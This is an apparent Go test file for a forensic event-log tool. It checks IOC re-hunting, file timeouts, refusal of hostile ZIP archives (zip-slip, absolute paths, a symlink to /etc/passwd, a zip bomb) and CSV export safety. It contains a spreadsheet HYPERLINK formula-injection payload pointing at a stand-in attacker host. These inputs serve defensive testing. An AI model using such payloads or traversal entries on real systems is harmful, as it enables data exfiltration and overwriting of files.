package engine_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"casescope/engine"
	"casescope/engine/ioc"
	"casescope/internal/corpus"
	"casescope/store"
)

// hitSet renders a case's stored IOC hits as sorted "file position ioc field" lines,
// with IOC ids mapped to their values (ids differ between cases).
func hitSet(t *testing.T, r *rig, caseID uint64) []string {
	t.Helper()
	iocs, err := r.ledger.IOCs(caseID)
	if err != nil {
		t.Fatal(err)
	}
	val := map[string]string{}
	for _, i := range iocs {
		val[i.Key()] = i.Type + ":" + i.Value
	}
	files, _ := r.ledger.Files(caseID)
	name := map[uint64]string{}
	for _, f := range files {
		name[f.ID] = f.Name
	}
	var out []string
	err = r.ledger.Hits(caseID, 0, func(h *store.EventHits) error {
		// The record's position in its file (chunk and offset, from the
		// document ID): the same in every case that holds the file, and
		// no chunk is decoded per hit.
		ref, ok := store.ParseDocID(h.DocID)
		if !ok {
			t.Errorf("hit on malformed document ID %q", h.DocID)
		}
		for _, ih := range h.IOCs {
			out = append(out, strings.Join([]string{name[h.FileID], strconv.FormatUint(ref.Key(), 16), val[ih.IOCID], ih.Field}, " "))
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Strings(out)
	return out
}

// TestRehuntMatchesIngestTimeHunt: IOCs added after ingest give the same
// hits as IOCs present from the start, and re-hunting one case never
// touches another case's hits.
func TestRehuntMatchesIngestTimeHunt(t *testing.T) {
	dir := corpus.Shared(t)
	paths := []string{
		filepath.Join(dir, "evtx", "omerbenamram", "sysmon.evtx"),
		filepath.Join(dir, "evtx", "omerbenamram", "security.evtx"),
		filepath.Join(dir, "evtx", "evtx-attack-samples", "AutomatedTestingTools", "PanacheSysmon_vs_AtomicRedTeam01.evtx"),
	}
	list := []ioc.IOC{
		{Type: ioc.TypeFilename, Value: "cmd.exe"},
		{Type: ioc.TypeUsername, Value: "IEUser"},
		{Type: ioc.TypeSID, Value: "S-1-5-18"},
		{Type: ioc.TypeCommand, Value: "whoami"},
		{Type: ioc.TypeIP, Value: "127.0.0.1"},
	}
	r := newRig(t, true)
	early, err := r.ledger.CreateCase("early", "")
	if err != nil {
		t.Fatal(err)
	}
	if _, job, err := r.eng.AddIOCs(early.ID, list, "test"); err != nil {
		t.Fatal(err)
	} else if _, err := r.eng.WaitJob(t.Context(), job.ID); err != nil {
		t.Fatal(err)
	}
	r.ingest(t, "early", paths...)

	late, _ := r.ingest(t, "late", paths...)
	if n := len(hitSet(t, r, late.ID)); n != 0 {
		t.Fatalf("late case has %d hits before any IOC", n)
	}
	_, job, err := r.eng.AddIOCs(late.ID, list, "test")
	if err != nil {
		t.Fatal(err)
	}
	done, err := r.eng.WaitJob(t.Context(), job.ID)
	if err != nil || done.State != "done" {
		t.Fatalf("re-hunt: %+v %v", done, err)
	}
	want, got := hitSet(t, r, early.ID), hitSet(t, r, late.ID)
	if len(want) == 0 {
		t.Fatal("no IOC hits at all; pick IOCs that occur")
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("re-hunt hits differ from ingest-time hits: %d vs %d", len(got), len(want))
	}
	if done.Changed == 0 || done.Changed > done.Events {
		t.Errorf("re-hunt rewrote %d of %d events", done.Changed, done.Events)
	}
	// The index agrees with the ledger.
	page, err := r.eng.Search(t.Context(), late.ID, store.SearchRequest{Query: "ioc:*", Size: 1})
	if err != nil {
		t.Fatal(err)
	}
	events := map[string]bool{}
	for _, h := range got {
		f := strings.Fields(h)
		events[f[0]+" "+f[1]] = true
	}
	if page.Total != uint64(len(events)) {
		t.Errorf("ioc:* finds %d events, ledger has %d", page.Total, len(events))
	}

	// Disabling one IOC in the late case removes only its hits there.
	iocs, _ := r.ledger.IOCs(late.ID)
	var cmdID uint64
	for _, i := range iocs {
		if i.Value == "cmd.exe" {
			cmdID = i.ID
		}
	}
	_, job, err = r.eng.UpdateIOC(late.ID, cmdID, func(i *store.IOC) error { i.Enabled = false; return nil })
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.eng.WaitJob(t.Context(), job.ID); err != nil {
		t.Fatal(err)
	}
	for _, h := range hitSet(t, r, late.ID) {
		if strings.Contains(h, "filename:cmd.exe") {
			t.Fatalf("disabled IOC still hits: %s", h)
		}
	}
	if after := hitSet(t, r, early.ID); strings.Join(after, "\n") != strings.Join(want, "\n") {
		t.Errorf("re-hunting the late case changed the early case's hits")
	}
}

// TestFileTimeout: a file exceeding --file-timeout fails with the reason
// and releases its worker; the next file still runs.
func TestFileTimeout(t *testing.T) {
	data := t.TempDir()
	led, err := store.OpenLedger(filepath.Join(data, "ledger.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer led.Close()
	eng := engine.New(engine.Config{DataDir: data, FileTimeout: time.Nanosecond, Workers: 1}, slog.New(slog.NewTextHandler(io.Discard, nil)), led, nil)
	if err := eng.Start(t.Context()); err != nil {
		t.Fatal(err)
	}
	defer eng.Close(context.Background())
	c, _ := led.CreateCase("slow", "")
	if _, err := eng.Import(t.Context(), c.ID, []string{corpus.Fixture(t, "Security_short_selected.evtx"), corpus.Fixture(t, "Application_no_crc32.evtx")}); err != nil {
		t.Fatal(err)
	}
	if err := eng.WaitIdle(t.Context()); err != nil {
		t.Fatal(err)
	}
	files, _ := led.Files(c.ID)
	for _, f := range files {
		if f.State != store.StateFailed || !strings.HasPrefix(f.Error, "timed out after ") {
			t.Errorf("%s: %s %q, want failed timed out", f.Name, f.State, f.Error)
		}
	}
}

// TestZipSafety builds hostile archives and checks each is refused with a
// clear reason and nothing is written outside the case's folder.
func TestZipSafety(t *testing.T) {
	evtxBytes, err := os.ReadFile(corpus.Fixture(t, "Security_short_selected.evtx"))
	if err != nil {
		t.Fatal(err)
	}
	type entry struct {
		name string
		mode os.FileMode
		data []byte
	}
	build := func(entries []entry) string {
		var buf bytes.Buffer
		zw := zip.NewWriter(&buf)
		for _, e := range entries {
			h := &zip.FileHeader{Name: e.name, Method: zip.Deflate}
			if e.mode != 0 {
				h.SetMode(e.mode)
			}
			w, err := zw.CreateHeader(h)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := w.Write(e.data); err != nil {
				t.Fatal(err)
			}
		}
		if err := zw.Close(); err != nil {
			t.Fatal(err)
		}
		p := filepath.Join(t.TempDir(), "evidence.zip")
		if err := os.WriteFile(p, buf.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	tests := []struct {
		name   string
		entry  entry
		reason string
	}{
		{"zip-slip", entry{"../../../../tmp/evil.evtx", 0, evtxBytes}, "path traversal"},
		{"zip-slip backslash", entry{`..\..\evil.evtx`, 0, evtxBytes}, "path traversal"},
		{"absolute path", entry{"/etc/cron.d/evil.evtx", 0, evtxBytes}, "absolute path"},
		{"drive path", entry{`C:\Windows\evil.evtx`, 0, evtxBytes}, "absolute path"},
		{"symlink", entry{"link.evtx", os.ModeSymlink | 0o777, []byte("/etc/passwd")}, "symbolic link"},
		{"bomb", entry{"bomb.evtx", 0, append(append([]byte{}, evtxBytes...), make([]byte, 80<<20)...)}, "zip bomb"},
		{"not evtx", entry{"notes.txt", 0, []byte("hello")}, "not an EVTX file"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := newRig(t, true)
			outside := filepath.Join(filepath.Dir(r.data), "evil.evtx")
			c, _ := r.ingest(t, "zip", build([]entry{tc.entry, {"good/ok.evtx", 0, evtxBytes}}))
			files, _ := r.ledger.Files(c.ID)
			var bad, good int
			for _, f := range files {
				switch {
				case strings.HasSuffix(f.Name, "ok.evtx"):
					good++
					if f.State != store.StateCompleted || f.Events != 7 {
						t.Errorf("good entry: %s/%d", f.State, f.Events)
					}
				case f.State == store.StateFailed && strings.Contains(f.Error, tc.reason):
					bad++
				default:
					t.Errorf("entry %s: %s %q, want failed with %q", f.Name, f.State, f.Error, tc.reason)
				}
			}
			if bad != 1 || good != 1 {
				t.Errorf("records: %d refused, %d good; want 1 and 1", bad, good)
			}
			for _, p := range []string{outside, "/tmp/evil.evtx", "/etc/cron.d/evil.evtx"} {
				if _, err := os.Stat(p); err == nil {
					t.Errorf("%s was written outside the case", p)
				}
			}
			// Nothing outside the data directory changed: every file the
			// case holds lies under it.
			_ = filepath.WalkDir(r.data, func(p string, d os.DirEntry, err error) error {
				if err == nil && d.Type()&os.ModeSymlink != 0 {
					t.Errorf("symlink created at %s", p)
				}
				return nil
			})
		})
	}
}

func TestDefuseCSV(t *testing.T) {
	r := newRig(t, true)
	c, _ := r.ingest(t, "csv", corpus.Fixture(t, "Security_short_selected.evtx"))
	page, err := r.eng.Search(t.Context(), c.ID, store.SearchRequest{Size: 1})
	if err != nil || len(page.Hits) != 1 {
		t.Fatalf("search: %v", err)
	}
	const payload = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	if _, err := r.eng.TagEvent(t.Context(), c.ID, store.Tag{DocID: page.Hits[0].ID, Note: payload}); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if _, err := r.eng.Export(t.Context(), c.ID, engine.ExportRequest{Format: engine.FormatCSV}, &buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, row := range rows {
		for _, cell := range row {
			if len(cell) > 1 && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
			// The note is the first comment of the event's thread,
			// exported as "author (time): text" in the Comments cell.
			if strings.Contains(cell, payload) {
				found = true
			}
		}
	}
	if !found {
		t.Errorf("the tag note (now the thread's first comment) was not exported")
	}
}
